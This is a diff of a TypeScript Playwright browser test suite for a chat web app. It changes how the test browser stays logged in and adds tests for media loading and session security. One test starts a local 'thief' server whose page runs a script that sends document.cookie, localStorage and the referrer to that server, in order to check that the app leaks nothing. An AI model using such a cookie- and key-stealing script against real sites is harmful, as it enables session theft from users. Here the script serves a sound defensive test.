@@ -1,9 +1,12 @@
+import { once } from 'node:events'
 import { mkdir } from 'node:fs/promises'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core'
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
-import { contactId } from '../../src/core/ids.ts'
+import { contactId, mediaId } from '../../src/core/ids.ts'
 import { hills } from '../adapters/web/hills.ts'
 import {
   account,
@@ -36,7 +39,8 @@ describe.skipIf(!executablePath)('the page in a real browser', () => {
   let browser: Browser
   let world: World
   let running: RunningHub
-  let cookie: { name: string; value: string; url: string }
+  /** A browser's memory of having been let in. */
+  let storageState: ReturnType<typeof remembered>
   let context: BrowserContext
   /** What the browser complained about: a policy broken, an exception, a failed load. */
   let complaints: string[]
@@ -63,8 +67,7 @@ describe.skipIf(!executablePath)('the page in a real browser', () => {
     world = await makeWorld()
     await start({ sandbox: true })
     await fill(world, running.hub)
-    const [name = '', value = ''] = (await logIn(running)).cookie.split('=')
-    cookie = { name, value, url: running.origin }
+    storageState = remembered(running.home, await logIn(running))
   })
   afterEach(async () => {
     await context?.close()
@@ -81,8 +84,7 @@ describe.skipIf(!executablePath)('the page in a real browser', () => {
   }
 
   async function open(more: object = desktop, where = ''): Promise<Page> {
-    context = await browser.newContext({ locale: 'en-GB', ...more })
-    await context.addCookies([cookie])
+    context = await browser.newContext({ locale: 'en-GB', storageState, ...more })
     const page = await context.newPage()
     page.on('console', (line) => {
       if (line.type() === 'error' || line.type() === 'warning') complaints.push(line.text())
@@ -92,7 +94,7 @@ describe.skipIf(!executablePath)('the page in a real browser', () => {
       complaints.push(`dialog: ${dialog.message()}`)
       void dialog.dismiss()
     })
-    await page.goto(`${running.origin}/${where}`)
+    await page.goto(`${running.home}/${where}`)
     await page.waitForSelector('.entry', { state: 'attached' })
     return page
   }
@@ -109,7 +111,11 @@ describe.skipIf(!executablePath)('the page in a real browser', () => {
     const page = await context.newPage()
     await page.goto(await running.hub.address)
     await page.waitForSelector('.entry')
-    expect(page.url()).toBe(`${running.origin}/`)
+    expect(page.url()).toBe(`${running.home}/`)
+    await page.reload()
+    await page.waitForSelector('.entry')
+    const [cookie] = await context.cookies()
+    expect(cookie?.path).toBe(new URL(`${running.home}/`).pathname)
     const other = await (await browser.newContext(desktop)).newPage()
     await other.goto(await running.hub.address)
     await other.getByText('That address has been used already').waitFor()
@@ -201,7 +207,7 @@ describe.skipIf(!executablePath)('the page in a real browser', () => {
     if (leaves) await page.goto('about:blank')
     await start({ port })
     running.refuse(1)
-    if (leaves) await page.goto(`${running.origin}/${to(chats.lin)}`)
+    if (leaves) await page.goto(`${running.home}/${to(chats.lin)}`)
     await until(() => running.events.length === 3, 'all three', 40_000)
     expect(running.events.map((event) => event.type === 'message' && event.text)).toEqual([
       'one',
@@ -292,6 +298,96 @@ describe.skipIf(!executablePath)('the page in a real browser', () => {
     await page.locator('.picture.loaded').waitFor()
   })
 
+  it('shows a picture and an avatar the moment they are kept, without asking in between', async () => {
+    const page = await open(desktop, to(chats.lin))
+    await page.locator('.bubble', { hasText: '我已经在车上了' }).waitFor()
+    // What would ask again by itself, or be drawn by chance, never comes.
+    await page.evaluate(`{
+      const real = setTimeout
+      window.setTimeout = (work, ms, ...more) => ms >= 500 ? 0 : real(work, ms, ...more)
+      window.untouched = true
+    }`)
+    const missing = new Set<string>()
+    page.on('response', (answer) => {
+      const { pathname, searchParams } = new URL(answer.url())
+      if (pathname.endsWith('/api/media') && answer.status() === 404)
+        missing.add(searchParams.get('id') ?? '')
+    })
+    const other = await keepPicture(world, 'media/other', hills(9, 9, 1))
+    const avatar = { ...other, id: mediaId('media/face') }
+    await say(world, 'lin', { ...lin, avatar }, 'look at me')
+    const ref = await sayPicture(world, 'lin', lin, 'media/late')
+    await page.getByText('The picture is being fetched').waitFor()
+    await until(() => missing.size === 2, 'both to be asked for in vain')
+    await keepPicture(world, 'media/face', hills(40, 40, 5))
+    await page.locator('.messages .avatar img').waitFor()
+    expect(await page.locator('.picture.loaded').count()).toBe(0)
+    await keepPicture(world, ref.id, hills(200, 100, 7))
+    await page.locator('.picture.loaded').waitFor()
+    expect(await page.evaluate('window.untouched')).toBe(true)
+  })
+
+  it('gives another port of this machine no cookie, no key and not its address', async () => {
+    const asked: string[] = []
+    const thief = createServer((request, answer) => {
+      asked.push(JSON.stringify([request.url, request.headers]))
+      answer.setHeader('content-type', 'text/html')
+      if (request.url === '/lure') answer.writeHead(302, { location: '/second' })
+      answer.end(
+        request.url === '/second'
+          ? `<script>
+              fetch('/fetched', { credentials: 'include', headers: {
+                'X-Found': document.cookie + JSON.stringify(localStorage) + document.referrer } })
+                .then(() => location.assign('/login/'))
+            </script>`
+          : '',
+      )
+    }).listen(0, '127.0.0.1')
+    await once(thief, 'listening')
+    const lure = `http://127.0.0.1:${(thief.address() as AddressInfo).port}/lure`
+    await running.stop()
+    await start({})
+    await say(world, 'lin', lin, `Look: ${lure}`)
+    context = await browser.newContext(desktop)
+    const page = await context.newPage()
+    await page.goto(await running.hub.address)
+    await page.locator('.entry', { hasText: '林晓' }).click()
+    const opened = context.waitForEvent('page')
+    await page.locator('.text a', { hasText: lure }).click()
+    await (await opened).waitForURL('**/login/')
+    await page.evaluate(`location.assign(${JSON.stringify(lure)})`)
+    await page.waitForURL('**/login/')
+    await page.goto(`${running.home}/`)
+    await page.waitForSelector('.entry')
+    const { cookies, origins } = await context.storageState()
+    const keys = origins.flatMap((one) => one.localStorage.filter(({ name }) => /^key:/.test(name)))
+    const secrets = [...cookies, ...keys].map((one) => one.value)
+    expect(secrets).toHaveLength(2)
+    expect(asked.filter((one) => one.includes('/fetched'))).toHaveLength(2)
+    for (const secret of [...secrets, new URL(running.home).pathname]) {
+      expect(secret.length).toBeGreaterThan(26)
+      expect(asked.filter((one) => one.includes(secret))).toEqual([])
+    }
+    expect(asked.filter((one) => one.includes('"cookie"'))).toEqual([])
+    const { host } = new URL(running.origin)
+    expect(asked.filter((one) => one.includes(host))).toEqual([])
+    thief.close()
+    thief.closeAllConnections()
+  })
+
+  it('keeps nothing a script could use alone, and locks itself when its key is gone', async () => {
+    const page = await open()
+    const [cookie] = storageState.cookies
+    const kept = await page.evaluate<string>(
+      'JSON.stringify([localStorage, sessionStorage, document.cookie])',
+    )
+    expect(kept).not.toContain(cookie?.value)
+    expect(kept).toContain(storageState.origins[0]?.localStorage[0]?.value)
+    await page.evaluate('localStorage.clear()')
+    await page.reload()
+    await page.getByText('This browser is not let in yet').waitFor()
+  })
+
   it('shows hostile names and texts literally', async () => {
     const page = await open(desktop, to(chats.eve))
     expect(await page.locator('.head h2').textContent()).toBe(chats.eve.name)
@@ -371,9 +467,29 @@ describe.skipIf(!executablePath)('the page in a real browser', () => {
     if (colorScheme === 'dark') expect(red).toBeLessThan(60)
     else expect(red).toBeGreaterThan(200)
     await shot(page, `${name}-${colorScheme}-friend`)
-    await page.goto(`${running.origin}/${to(chats.hikers)}`)
+    await page.goto(`${running.home}/${to(chats.hikers)}`)
     await page.locator('.recall .picture.loaded').waitFor()
     await shot(page, `${name}-${colorScheme}-group`)
     expect(complaints).toEqual([])
   })
 })
+
+function remembered(home: string, { cookie, key }: { cookie: string; key: string }) {
+  const [name = '', value = ''] = cookie.split('=')
+  const { hostname, origin, pathname } = new URL(`${home}/`)
+  return {
+    cookies: [
+      {
+        name,
+        value,
+        domain: hostname,
+        path: pathname,
+        expires: -1,
+        httpOnly: true,
+        secure: false,
+        sameSite: 'Strict' as const,
+      },
+    ],
+    origins: [{ origin, localStorage: [{ name: `key:${pathname}`, value: key }] }],
+  }
+}
